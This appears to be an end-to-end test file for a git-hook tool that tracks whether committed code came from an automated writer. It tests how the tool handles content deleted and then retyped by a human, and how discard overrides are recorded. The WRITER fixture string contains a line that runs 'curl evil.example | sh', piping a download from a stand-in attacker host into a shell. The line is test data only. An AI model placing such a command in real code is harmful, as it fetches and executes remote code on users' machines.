"""A human types again writer content that had gone (SPEC §3 "Attribution follows
content", "Pending work ends cleanly"): real git, ``gentle-hook install``, a bare remote
with the server gate.

* Writer content gone long enough to expire (its content was nowhere) and typed again
  byte for byte by a human is judged the writer's (content decides), but the block offers
  ``discard`` runnable exactly as printed; the discard claims the expired record whose
  content the change holds, recorded like an override (ledger and the commit's note: who,
  why); the commit then passes with no writer trailer, and the push, ``gate --range`` and
  the server gate let it through; ``status`` agrees with the gate.
* Writer content thrown away (``git reset --hard``) and typed again before anything
  expired it is still the writer's open work: the reflog is no evidence the content left,
  so the block offers no ``discard`` and a discard is refused with the ``git restore`` that
  takes it out; after that restore the discard is accepted, and the content typed again
  then is discarded content brought back: the writer's at the commit gate (the spot check
  is the way through, tests/e2e/test_discard.py).
* Writer content never thrown away stays refused (tests/e2e/test_discard.py,
  tests/e2e/test_discard_no_launder.py).
"""

from __future__ import annotations

from tests.e2e.conftest import World

BASE = "import os\n\ndef main():\n    return 1\n"
WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
OTHER = "import os\n\ndef main():\n    return 2\n"


def test_a_human_retyping_expired_writer_content_has_a_runnable_way_out(native: World) -> None:
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    w.write("src/app.py", OTHER)  # a human commit of the path: the writer's work expires
    r = w.git("commit", "-qam", "human: other")
    assert r.code == 0 and any("expired" in s for s in r.said), r
    assert w.ledger("SELECT state FROM writer_entry") == [("expired",)]
    w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
    w.ok("add", "-A")
    status = w.gh("status")
    assert "status: missing spot-check" in status.out, status
    blocked = w.git("commit", "-qm", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    offered = [s for s in blocked.said if " discard " in s]
    assert len(offered) == 1 and "human: " in offered[0], blocked
    cmd = offered[0].split("human: ", 1)[1]
    done = w.run(["sh", "-c", cmd])
    assert done.code == 0, done
    assert done.out == (
        "discarded: 1 pending writer entry on src/app.py, by Test Committer "
        "<committer@example.com> ('a human change, not the writer work')\n"
    ), done
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    status = w.gh("status")
    assert "status: not delegated" in status.out, status
    passed = w.git("commit", "-qm", "human: typed by me")
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD")
    assert '"kind":"override"' in note and '"hook":"discard"' in note, note
    assert '"kind":"writer"' not in note, note
    assert "writer content claimed: src/app.py" in note, note
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 0, ci
    push = w.git("push", "origin", "main", "refs/notes/gentle-hooks")
    assert push.code == 0, push
    assert w.remote_ref("main") == w.rev("HEAD")


def test_writer_content_typed_again_before_it_expired_stays_the_writers(native: World) -> None:
    """A ``git reset --hard`` leaves a reflog entry, not evidence: the open entry is not
    claimable; the printed ``git restore`` then ``discard`` ends it, and the content typed
    again is discarded content brought back, still the writer's."""
    w = native.serve({"src/app.py": BASE})
    w.delegate(text=WRITER)
    w.ok("reset", "-q", "--hard")
    w.write("src/app.py", WRITER)  # typed again by a human, byte for byte
    w.ok("add", "-A")
    blocked = w.git("commit", "-qm", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not any(" discard " in s for s in blocked.said), blocked
    refused = w.gh("discard", "--all", "--reason", "typed by me")
    assert refused.code == 2 and "still holds the writer's change" in refused.err, refused
    restore = refused.err.split("`")[1]
    assert restore == (
        "git restore --source=HEAD --staged --worktree -- ':(top,literal)src/app.py'"
    ), refused
    assert w.run(["sh", "-c", restore]).code == 0
    done = w.gh("discard", "--all", "--reason", "typed by me")
    assert done.code == 0, done
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    assert w.ledger("SELECT claimed FROM discard") == [("[]",)]
    w.write("src/app.py", WRITER)
    w.ok("add", "-A")
    again = w.git("commit", "-qm", "human: typed by me")
    assert again.code == 1 and "BLOCKED the staged change" in again.said[0], again
